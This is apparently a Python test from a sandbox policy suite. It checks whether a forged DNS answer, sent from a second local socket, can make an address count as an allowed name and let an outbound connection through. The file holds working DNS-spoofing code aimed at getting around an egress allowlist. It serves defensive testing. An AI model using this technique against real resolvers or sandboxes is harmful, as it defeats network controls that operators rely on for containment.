# class: network
# rule: outbound_connectivity
# policy: names.yaml
# success: the attacker's forged answer makes the outside an address of an allowed name
# proof: word
# needs: resolver
import socket

from attack import RESOLVER, attempt, patience

NAME = b"\x03api\x07allowed\x07example\0"
QUESTION = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + NAME + b"\0\x01\0\x01"
FORGED = (
    b"\x12\x34\x81\x80\0\x01\0\x01\0\0\0\0" + NAME + b"\0\x01\0\x01"
    b"\xc0\x0c\0\x01\0\x01\0\0\x0e\x10\0\x04" + socket.inet_aton("127.66.66.66")
)


@attempt
def connect():
    listener = socket.socket()
    listener.bind(("127.66.66.66", 443))
    listener.listen()
    # A socket that asked the resolver, and then receives another sender's answer.
    asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asker.bind(("127.0.0.1", 0))
    forger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    forger.bind(("127.0.0.1", 0))
    try:
        asker.sendto(QUESTION, (RESOLVER, 53))
    except OSError:
        pass
    try:
        forger.sendto(FORGED, asker.getsockname())
    except OSError:
        pass
    asker.settimeout(patience(1))
    for _ in range(2):
        try:
            asker.recvfrom(512)
        except OSError:
            break
    return socket.socket().connect_ex(("127.66.66.66", 443)) == 0
